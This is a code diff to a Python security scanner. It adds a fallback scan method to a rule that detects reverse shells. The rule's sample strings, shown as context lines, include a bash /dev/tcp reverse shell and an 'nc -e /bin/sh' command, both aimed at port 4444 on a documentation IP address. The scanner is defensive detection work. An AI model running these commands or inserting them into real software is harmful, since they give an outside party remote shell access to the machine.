@@ -7,6 +7,7 @@ from dataclasses import dataclass, field
 import libcst as cst
 
 from datasec_scan.model import Category, Confidence, Severity
+from datasec_scan import fallback
 from datasec_scan.rule import Rule
 from datasec_scan.semantics.constants import fold
 
@@ -105,6 +106,11 @@ class ReverseShell(Rule):
         "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n",
         "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\n",
     )
+
+    @classmethod
+    def fallback(cls, tree, text, context):  # type: ignore[override]
+        """Reduced scan when libcst cannot parse the file (the engine marks these findings `fallback`)."""
+        yield from fallback.reverse_shell(tree, text)
 
     def __init__(self, context) -> None:
         super().__init__(context)
